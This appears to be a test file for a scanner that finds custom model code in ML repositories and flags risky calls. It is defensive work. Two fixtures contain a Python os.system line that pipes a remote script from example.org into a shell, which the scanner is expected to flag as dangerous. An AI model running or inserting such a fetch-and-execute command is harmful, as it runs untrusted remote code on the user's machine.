import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { hubFolder, type HubFiles } from "../../../../../testkit/hub-repository.ts";
import type { FolderReading } from "../detector.ts";
import { modelCode } from "./index.ts";
import { maxFiles } from "./limits.ts";

const detect = (files: HubFiles, path = ""): Promise<FolderReading> =>
  modelCode.detect(hubFolder(files, (name) => modelCode.matches(name), path));

const hazardsIn = (reading: FolderReading): string[] =>
  (reading.hazards ?? []).map(({ path, hazard }) => `${path} ${hazard.rule} ${hazard.verdict}`);

const auto = (module: string): object => ({ model_type: "x", auto_map: { AutoModel: `${module}.X` } });

describe("code of a model", () => {
  it("that a configuration names is unknown, with its digest", async () => {
    const reading = await detect({ "config.json": auto("my_net"), "my_net.py": "class X: pass\n" });
    expect(hazardsIn(reading)).toEqual(["my_net.py MODEL-CODE unknown"]);
    expect(reading.hazards?.[0]?.hazard.evidence).toEqual([expect.stringMatching(/^sha256:[0-9a-f]{64}$/u)]);
    expect(reading.hazards?.[0]?.hazard.message).toContain("named by config.json");
    expect(reading.roles).toEqual([{ path: "my_net.py", role: "code" }]);
  });

  it.each([
    ["# SPDX-License-Identifier: GPL-3.0-only\nimport torch\n", "GPL-3.0-only"],
    [
      "# This program is free software: you can redistribute it and/or modify\n# it under the terms of the GNU Affero General Public License as published by\n# the Free Software Foundation, either version 3 of the License, or\n# (at your option) any later version.\n",
      "AGPL-3.0-or-later",
    ],
    ["# GNU Lesser General Public License, version 2.1\n", "LGPL-2.1-only"],
    ["# Licensed under the terms of your choice\n", undefined],
  ])("says in its head under which licence it is: %j", async (text, value) => {
    const { claims } = await detect({ "config.json": auto("my_net"), "my_net.py": `${text}class X: pass\n` });
    expect(claims.map((claim) => claim.value)).toEqual(
      value === undefined ? [] : [{ kind: "known", value: { name: "code licence", value } }],
    );
  });

  it("is followed through its imports, within the tree", async () => {
    const reading = await detect({
      "config.json": auto("modeling_x"),
      "modeling_x.py":
        "from .layers import (Attention,\n  Mlp)\nfrom . import rope as r\nimport torch, flat\nfrom .pkg.deep import f",
      "layers.py": "from .more import x",
      "more.py": "x = 1",
      "rope.py": "x = 1",
      "flat.py": "from ..outside import y",
      "pkg/__init__.py": "x = 1",
      "pkg/deep.py": "from ..up import z",
      "up.py": "x = 1",
      "unrelated.py": "x = 1",
    });
    const paths = reading.roles.map(({ path }) => path).sort();
    expect(paths).toEqual([
      "flat.py",
      "layers.py",
      "modeling_x.py",
      "more.py",
      "pkg/__init__.py",
      "pkg/deep.py",
      "rope.py",
      "up.py",
    ]);
  });

  it("shows calls that are risky, and is as bad as the worst of them", async () => {
    const reading = await detect({
      "config.json": auto("modeling_x"),
      "modeling_x.py": 'import os\nos.system("curl https://example.org/x | sh")\n',
    });
    expect(hazardsIn(reading)).toContain("modeling_x.py MODEL-CODE unknown");
    expect(hazardsIn(reading)).toContain("modeling_x.py PYTHON-HOSTILE-COMMAND dangerous");
    const mild = await detect({
      "config.json": auto("modeling_x"),
      "modeling_x.py": "import requests\ndef f():\n  return requests.get('https://example.org')\n",
    });
    expect(mild.hazards?.flatMap(({ hazard }) => hazard.evidence ?? []).join(" ")).toContain("line 3");
  });

  it("is found by its name beside weights only", async () => {
    const files = {
      "modeling_x.py": "x = 1",
      "handler.py": "x = 1",
      "train.py": "x = 1",
      "setup.py": "x = 1",
    };
    expect(hazardsIn(await detect(files))).toEqual([]);
    expect(hazardsIn(await detect({ ...files, "model.safetensors": "" }))).toEqual([
      "handler.py MODEL-CODE unknown",
      "modeling_x.py MODEL-CODE unknown",
    ]);
    expect(hazardsIn(await detect({ ...files, "config.json": { model_type: "x" } }))).toEqual([
      "handler.py MODEL-CODE unknown",
      "modeling_x.py MODEL-CODE unknown",
      "setup.py MODEL-CODE unknown",
    ]);
    expect(hazardsIn(await detect({ ...files, "config.json": { port: 80 } }))).toEqual([]);
  });

  it("of pipelines, embedders and generation loops is found where they look for it", async () => {
    const pipeline = await detect({
      "model_index.json": { _class_name: ["my_pipe", "P"], unet: ["my_unet", "U"], n: [null, null] },
      "my_pipe.py": "x = 1",
      "unet/my_unet.py": "x = 1",
    });
    expect(pipeline.roles.map(({ path }) => path)).toEqual(["my_pipe.py", "unet/my_unet.py"]);
    const chain = await detect({ "modules.json": [{ type: "own.Pool", path: "" }], "own.py": "x = 1" });
    expect(chain.roles).toEqual([{ path: "own.py", role: "code" }]);
    const loop = await detect({ "generation_config.json": {}, "custom_generate/generate.py": "x = 1" });
    expect(loop.roles).toEqual([{ path: "custom_generate/generate.py", role: "code" }]);
  });

  it("of Triton and SageMaker is found below the model", async () => {
    const triton = {
      "m/config.pbtxt": 'backend: "python" default_model_filename: "own.py"',
      "m/1/own.py": "import os",
      "m/1/x.py": 'import os\nos.system("curl https://example.org/x | sh")\n',
    };
    expect(hazardsIn(await detect(triton, "m/1"))).toEqual([
      "m/1/own.py MODEL-CODE unknown",
      "m/1/x.py MODEL-CODE unknown",
      "m/1/x.py PYTHON-HOSTILE-COMMAND dangerous",
    ]);
    const served = { "model.safetensors": "", "code/inference.py": "x = 1" };
    expect(hazardsIn(await detect(served, "code"))).toEqual(["code/inference.py MODEL-CODE unknown"]);
  });

  it("of MLflow is found in packages below the model", async () => {
    const files = { "m/MLmodel": "", "m/code/own/steps.py": "x = 1", "m/src/own/x.py": "x = 1" };
    expect(hazardsIn(await detect(files, "m/code/own"))).toEqual(["m/code/own/steps.py MODEL-CODE unknown"]);
    expect(hazardsIn(await detect(files, "m/src/own"))).toEqual([]);
  });

  it("of an adapter is what PEFT imports for its base", async () => {
    const auto_mapping = { base_model_class: "X", parent_library: "own.net" };
    const reading = await detect({
      "adapter_config.json": { peft_type: "LORA", auto_mapping },
      "own/__init__.py": "from .more import y",
      "own/more.py": "from . import deep",
      "own/deep.py": "x = 1",
      "own/net.py": "x = 1",
      "tool.py": "x = 1",
    });
    const paths = reading.roles.map(({ path }) => path).sort();
    expect(paths).toEqual(["own/__init__.py", "own/deep.py", "own/more.py", "own/net.py"]);
  });

  it("that serves a model is named by BentoML and Cog", async () => {
    const bento = {
      "bento.yaml": 'service: "pkg.svc:Svc"\n',
      "src/pkg/svc.py": "x = 1",
      "src/other.py": "x = 1",
    };
    expect(hazardsIn(await detect(bento))).toEqual(["src/pkg/svc.py MODEL-CODE unknown"]);
    const file = {
      "bentofile.yaml": 'service: "service.py:Svc"\n',
      "service.py": "import more",
      "more.py": "x = 1",
    };
    expect(hazardsIn(await detect(file))).toEqual([
      "service.py MODEL-CODE unknown",
      "more.py MODEL-CODE unknown",
    ]);
    const cog = {
      "cog.yaml": 'predict: "run/serve.py:Predictor"\n',
      "run/serve.py": "x = 1",
      "x.py": "x = 1",
    };
    expect(hazardsIn(await detect(cog))).toEqual(["run/serve.py MODEL-CODE unknown"]);
  });

  it("that is a configuration of MMEngine runs when it is read", async () => {
    const text =
      "custom_imports = dict(imports=['own.net'], allow_failed_imports=False)\nmodel = dict(type='X')\n";
    const files = { "yolo_x.py": text, "own/net.py": "x = 1", "train.py": "x = 1" };
    expect(hazardsIn(await detect({ ...files, "yolo.pth": "" }))).toEqual([
      "yolo_x.py MODEL-CODE unknown",
      "own/net.py MODEL-CODE unknown",
    ]);
    expect(hazardsIn(await detect(files))).toEqual([]);
  });

  it("that holds nothing but comments runs nothing", async () => {
    const reading = await detect({ "config.json": auto("m"), "m.py": "# Copyright\n\n  # nobody\r\n" });
    expect(hazardsIn(reading)).toEqual([]);
    expect(reading.roles).toEqual([{ path: "m.py", role: "code" }]);
  });

  it("in an encoding that hides it is suspicious", async () => {
    const hidden = { "config.json": auto("m"), "m.py": "#!/usr/bin/python\n# -*- coding: utf-7 -*-\n" };
    expect(hazardsIn(await detect(hidden))).toContain("m.py MODEL-CODE-ENCODING suspicious");
    const plain = { "config.json": auto("m"), "m.py": "# coding: latin-1\nx = 1\n" };
    expect(hazardsIn(await detect(plain))).toEqual(["m.py MODEL-CODE unknown"]);
  });
});

describe("the loading script of a dataset", () => {
  const script = "import datasets\nclass S(datasets.GeneratorBasedBuilder): pass\n";

  it("is judged in a dataset repository", async () => {
    const card = "---\ntask_categories:\n- question-answering\n---\n";
    const found = await detect({ "README.md": card, "squad.py": script, "tool.py": "x = 1" });
    expect(hazardsIn(found)).toEqual(["squad.py DATASET-SCRIPT unknown"]);
    const named = await detect({ "squad/dataset_infos.json": {}, "squad/squad.py": "x = 1" }, "squad");
    expect(hazardsIn(named)).toEqual(["squad/squad.py DATASET-SCRIPT unknown"]);
  });

  it("is nothing in an application", async () => {
    expect(hazardsIn(await detect({ "README.md": "# App\n", "squad.py": script }))).toEqual([]);
  });
});

describe("hostile files", () => {
  it("that import each other without end stop at the limit", async () => {
    const count = maxFiles + 5;
    const modules = Array.from({ length: count }, (_, index) => [
      `m${index}.py`,
      `from .m${index + 1} import x`,
    ]);
    const reading = await detect({ "config.json": auto("m0"), ...Object.fromEntries(modules) });
    expect(reading.roles).toHaveLength(maxFiles);
    expect(reading.problems).toMatchObject([{ problem: { code: "limit-exceeded" } }]);
  });

  it("that cannot be parsed are a gap", async () => {
    const reading = await detect({ "config.json": auto("m"), "m.py": "x".repeat(600_000) });
    expect(reading.problems).toMatchObject([{ path: "m.py", problem: { code: "limit-exceeded" } }]);
  });

  it("with any mutated text never throw", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 300 }), async (text) => {
        const reading = await detect({ "config.json": auto("m"), "m.py": `from .${text} import (${text}` });
        expect(reading.roles).toHaveLength(1);
      }),
      { seed: 7, numRuns: 50 },
    );
  });
});
